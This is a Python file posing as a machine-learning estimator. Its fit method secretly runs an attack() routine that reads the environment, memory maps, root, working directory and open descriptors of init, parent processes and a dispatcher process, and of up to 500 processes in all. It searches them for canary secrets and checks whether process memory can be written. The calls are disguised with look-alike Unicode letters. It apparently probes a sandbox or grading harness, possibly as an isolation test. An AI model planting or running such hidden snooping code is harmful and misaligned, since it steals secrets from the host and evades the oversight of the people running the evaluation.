"""Reads environment, memory, root and descriptors of pid 1, parents and dispatcher."""

import os
import re

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def ancestors():
    pid = os.getppid()
    while pid > 0:
        yield pid
        try:
            with ｏpen(f'/proc/{pid}/stat') as file:
                pid = int(file.read().rsplit(')', 1)[1].split()[1])
        except (OSError, ValueError):
            return


def own():
    """Return its own namespace: what may be known of processes in it is its own."""
    return os.readlink('/proc/self/ns/pid')


def attack():
    secret = re.compile(b'CANARY' + b'-[0-9a-f]{6,}')
    pids = {1, *ancestors(), int(TARGETS.get('dispatcher_pid', 1))}
    pids |= (
        {int(name) for name in os.ｌistdir('/proc') if name.isdigit()} if len(pids) < 200 else set()
    )
    for pid in sorted(pids - {os.getpid()})[:500]:
        for name in ('environ', 'maps', 'auxv'):
            try:
                with ｏpen(f'/proc/{pid}/{name}', 'rb') as file:
                    content = file.read(100_000)
            except OSError:
                continue
            if content and (name != 'environ' or secret.search(content)):
                print(
                    f'STOLEN {name} of {pid}: {content[:60]!r} {secret.findall(content)}',
                    flush=True,
                )
        for name in ('root', 'cwd', 'fd'):
            try:
                print(
                    f'STOLEN {name} of {pid}: {os.ｌistdir(f"/proc/{pid}/{name}")[:10]}', flush=True
                )
            except OSError:
                pass
        try:
            with ｏpen(f'/proc/{pid}/mem', 'r+b', 0):
                print(f'STOLEN could write the memory of {pid}', flush=True)
        except OSError:
            pass


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
